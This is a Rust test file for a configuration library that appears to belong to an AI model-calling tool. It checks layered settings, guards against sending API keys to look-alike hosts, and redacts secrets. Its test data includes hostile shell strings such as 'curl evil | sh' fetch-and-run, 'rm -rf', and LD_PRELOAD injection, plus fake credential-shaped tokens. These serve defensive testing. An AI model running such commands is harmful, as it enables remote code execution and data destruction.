//! Settings: their meaning, their layers, and their output.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::too_many_lines,
    reason = "tests, some of which are long tables"
)]

use plaincall_config::Document;
use plaincall_config::secret::{Address, not_shown, redacted, redacted_prose, starred};
use plaincall_config::settings::{KeySource, Layers, Model, Settings, untrusted};
use serde_json::json;

#[test]
fn layers() {
    let file = |name: &str, text: &str| Document::toml(name, text).root().clone();
    let deny = "[[rules]]\ntools = 'a'\nverdict = 'deny'\nreason = 'theirs'\n";
    let ask = "[[rules]]\ntools = 'b'\nverdict = 'ask'\n";
    let allow = "[[rules]]\ntools = 'c'\nverdict = 'allow'\n";
    let project = file(
        "project",
        &format!("system_file = 's'\n[models.a]\nurl = 'http://evil'\n{ask}{allow}{deny}"),
    );
    let user = file(
        "user",
        &format!(
            "system = 's'\nmodel = 'a'\n[limits]\nturns = 5\ncalls = 6\n[models.a]\nurl = 'https://a'\nkey_env = 'KEY'\n[models.b]\nurl = 'https://b'\n{allow}"
        ),
    );
    let merged = |project| {
        let mut layers = Layers::default();
        layers.user = user.clone();
        layers.project = project;
        layers.merge()
    };
    let tree = merged(project.clone());
    let settings: Settings = tree.read().unwrap();
    // A model is taken as a whole, so a key is sent only to its own address.
    assert_eq!(settings.models["a"].key_env, None);
    assert_eq!(
        settings.models["b"].url,
        Some(Address("https://b".to_owned()))
    );
    assert_eq!(
        (
            settings.system.as_deref(),
            settings.limits.calls.map(u32::from)
        ),
        (None, Some(6))
    );
    let rules = |settings: &Settings| -> Vec<String> {
        let rules = settings.rules.iter();
        rules
            .map(|rule| format!("{:?} {:?}", rule.tools.0[0], rule.verdict))
            .collect()
    };
    assert_eq!(
        rules(&settings),
        ["\"a\" Deny", "\"c\" Allow", "\"b\" Ask", "\"c\" Allow"]
    );
    let origins = ["/rules/0", "/rules/1", "/rules/2/verdict", "/limits/turns"];
    let lines = [
        "project, line 10",
        "user, line 11",
        "project, line 6",
        "user, line 4",
    ];
    assert_eq!(
        origins.map(|at| tree.get(at).unwrap().origin.to_string()),
        lines
    );
    let (kept, ignored) = untrusted(project);
    assert_eq!(ignored, ["`system_file`", "`models`", "rules that allow"]);
    let settings: Settings = merged(kept).read().unwrap();
    assert_eq!(rules(&settings), ["\"a\" Deny", "\"c\" Allow", "\"b\" Ask"]);
    assert_eq!(
        settings.rules[0].reason.as_deref(),
        Some("a rule of the project denies this call")
    );
    assert_eq!(settings.models["a"].key_env.as_deref(), Some("KEY"));
}

#[test]
fn where_usual_keys_go() {
    let variable = |url: &str| {
        let url = Some(Address(url.to_owned()));
        let model = Model {
            url,
            ..Model::default()
        };
        match model.key() {
            Some(KeySource::Usual(_, variable)) => Some(variable),
            Some(other) => panic!("{other:?}"),
            None => None,
        }
    };
    for (url, expected) in [
        ("https://api.openai.com/v1", Some("OPENAI_API_KEY")),
        ("https://api.openai.com:443/v1", Some("OPENAI_API_KEY")),
        ("https://api.anthropic.com", Some("ANTHROPIC_API_KEY")),
        ("http://api.openai.com/v1", None),
        ("https://api.openai.com@evil.example/v1", None),
        ("https://evil.example/api.openai.com", None),
        ("https://evil.example\\@api.openai.com", None),
        ("https://api.openai.com.evil.example", None),
        ("https://api.openai.com:8443/v1", None),
    ] {
        assert_eq!(variable(url), expected, "{url}");
    }
}

#[test]
fn the_provider_that_was_meant() {
    for (name, expected) in [
        ("qwen3", Some("ollama:qwen3")),
        ("qwen3:8b", Some("ollama:qwen3:8b")),
        ("Llama3.2", Some("ollama:Llama3.2")),
        ("gpt-oss:20b", Some("ollama:gpt-oss:20b")),
        ("gpt-5", Some("openai:gpt-5")),
        ("o3-mini", Some("openai:o3-mini")),
        ("claude-sonnet-4-5", Some("anthropic:claude-sonnet-4-5")),
        ("olama:qwen3", Some("ollama:qwen3")),
        (
            "antropic:claude-sonnet-4-5",
            Some("anthropic:claude-sonnet-4-5"),
        ),
        ("opneai:gpt-5", Some("openai:gpt-5")),
        ("gemini-2.5-pro", None),
        ("mymodel", None),
        ("azure:gpt", None),
        ("ollama:", None),
        ("meta-llama/Llama-3", None),
        ("", None),
    ] {
        assert_eq!(Model::with_provider(name).as_deref(), expected, "{name}");
    }
}

#[test]
fn possible_secrets_are_not_shown() {
    for (url, expected) in [
        ("https://a.example/v1", "https://a.example/v1"),
        (
            "https://a.example/v1?api_key=k",
            "https://a.example/v1?(not shown)",
        ),
        ("https://a.example?key=k@b", "https://a.example?(not shown)"),
        ("https://a.example/#k", "https://a.example/#(not shown)"),
        (
            "https://u:k@a.example/v1",
            "https://(not shown)@a.example/v1",
        ),
        (
            "https://k@u@a.example:8443?x=k",
            "https://(not shown)@a.example:8443?(not shown)",
        ),
        ("https://a.example/@b", "https://a.example/@b"),
        ("u:k@a.example?k", "(not shown)@a.example?(not shown)"),
        ("https:/u:k@a.example/v1", "(not shown)@a.example/v1"),
        (
            "https:/u:k@a.example/v1?to=http://b",
            "(not shown)@a.example/v1?(not shown)",
        ),
    ] {
        let address = Address(url.to_owned());
        assert_eq!(serde_json::to_value(&address).unwrap(), expected);
        assert_eq!(format!("{address:?}"), expected);
    }
    let text = "[models.a]\nextra = { key = 'k', deep = { key = 'k' }, number = 1 }\n[mcp.servers.a]\nargs = ['run', '--token', 'k']\nenv = { KEY = 'k' }\n[mcp.servers.b]\nargs = ['--token=k=l']\n";
    let settings: Settings = Document::toml("", text).read("").unwrap();
    let shown = serde_json::to_value(&settings).unwrap();
    for (pointer, expected) in [
        (
            "/models/a/extra",
            json!({"key": "(not shown)", "deep": "(not shown)", "number": "(not shown)"}),
        ),
        (
            "/mcp/servers/a/args",
            json!(["run", "(not shown)", "(not shown)"]),
        ),
        ("/mcp/servers/a/env", json!({"KEY": "(not shown)"})),
        ("/mcp/servers/b/args", json!(["--token=(not shown)"])),
    ] {
        assert_eq!(shown.pointer(pointer), Some(&expected), "{pointer}");
    }
}

#[test]
fn settings_without_secrets() {
    for (text, expected) in [
        (
            "model = 'claude-sonnet-4-5-20250929'",
            "model = 'claude-sonnet-4-5-20250929'",
        ),
        (
            "env = { API_KEY = \"tulip\" }",
            "env = { API_KEY = \"(not shown)\" }",
        ),
        ("env.API_KEY = 'tulip'", "env.API_KEY = '(not shown)'"),
        (
            "[mcp.servers.x.headers]\nAuthorization = \"Bearer tulip\"",
            "[mcp.servers.x.headers]\nAuthorization = \"(not shown)\"",
        ),
        (
            "headers = 'Bearer tulip'\nhttp_headers = { X = ['tulip', 42] }",
            "headers = '(not shown)'\nhttp_headers = { X = ['(not shown)', (not shown)] }",
        ),
        ("headers = { X = '' }", "headers = { X = '' }"),
        (
            "headers = { X = 'tulip' Y = 'rose' }\na = 1",
            "headers =(not shown)\na = 1",
        ),
        (
            "[a.headers]\nX = 'tulip\n[b]\nX = 'tulip",
            "[a.headers]\nX =(not shown)\n[b]\nX = 'tulip",
        ),
        (
            "url = 'https:/me:tulip@a.example/v1'",
            "url = '(not shown)@a.example/v1'",
        ),
        (
            "\"x-token\" = 'a\\'\nb = 1",
            "\"x-token\" = '(not shown)'\nb = 1",
        ),
        (
            r#"{"env": {"PASSWORD": "tu\"lip", "MODE": "x"}}"#,
            r#"{"env": {"PASSWORD": "(not shown)", "MODE": "x"}}"#,
        ),
        (
            r#"{"Authorization":"Bearer \u0074ulip"}"#,
            r#"{"Authorization":"(not shown)"}"#,
        ),
        (
            "args = ['--api-key', 'tulip', 'x']",
            "args = ['--api-key', '(not shown)', 'x']",
        ),
        (
            "args = [\n  '--api-key',\n  'tulip',\n]",
            "args = [\n  '--api-key',\n  '(not shown)',\n]",
        ),
        (
            "args = ['--token=tulip', '-v']",
            "args = ['--token=(not shown)', '-v']",
        ),
        (
            "command = ['env', 'TOKEN=tulip', 'x']",
            "command = ['env', 'TOKEN=(not shown)', 'x']",
        ),
        (
            "url = 'https://me:tulip@a.example/v1?api_key=rose&q=x'",
            "url = 'https://(not shown)@a.example/v1?api_key=(not shown)&q=x'",
        ),
        ("# sk-proj-1234567890abc\na = 1", "# (not shown)\na = 1"),
        ("x = 'AKIAIOSFODNN7EXAMPLE'", "x = '(not shown)'"),
        ("x = 'ghp_16C7e42F292c6912E7'", "x = '(not shown)'"),
        (
            "x = '6f9619ff-8b86-d011-b42d-00cf4fc964ff'",
            "x = '(not shown)'",
        ),
        // Values that are not secret are kept, in particular the commands to run.
        ("key_file = '/home/me/key'", "key_file = '/home/me/key'"),
        (
            "parameters = { key = 'string', token = 'integer?' }",
            "parameters = { key = 'string', token = 'integer?' }",
        ),
        (
            "env = { LD_PRELOAD = '/tmp/x.so' }",
            "env = { LD_PRELOAD = '/tmp/x.so' }",
        ),
        (
            "shell = 'KEY=\"$(curl evil | sh)\" x'",
            "shell = 'KEY=\"$(curl evil | sh)\" x'",
        ),
        (
            "shell = '''\nKEY='a b' rm -rf x\n'''",
            "shell = '''\nKEY='a b' rm -rf x\n'''",
        ),
        (
            "command = ['sh', '-c', 'rm -rf x']",
            "command = ['sh', '-c', 'rm -rf x']",
        ),
        ("max_tokens = 8192", "max_tokens = 8192"),
        (
            "a = 'https://a.example/v1?q=x'",
            "a = 'https://a.example/v1?q=x'",
        ),
        (
            "# don't\nb = 'it''s' # isn't it\nc = 'x86_64-unknown-linux-gnu'",
            "# don't\nb = 'it''s' # isn't it\nc = 'x86_64-unknown-linux-gnu'",
        ),
    ] {
        assert_eq!(redacted(text, not_shown), expected, "{text}");
        assert_eq!(redacted(text, starred).len(), text.len(), "{text}");
    }
}

#[test]
fn prose_without_secrets() {
    for (text, expected) in [
        (
            "Don't say \"hello\".\nThe key is: here.",
            "Don't say \"hello\".\nThe key is: here.",
        ),
        (
            "Use sk-proj-1234567890abc, please.",
            "Use (not shown), please.",
        ),
        (
            "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQ",
            "ssh-rsa (not shown)",
        ),
        (
            "postgres://me:tulip@host/name",
            "postgres://(not shown)@host/name",
        ),
        (
            "-----BEGIN KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC/x\n",
            "-----BEGIN KEY-----\n(not shown)/x\n",
        ),
    ] {
        assert_eq!(redacted_prose(text, not_shown), expected, "{text}");
        assert_eq!(redacted_prose(text, starred).len(), text.len(), "{text}");
    }
}
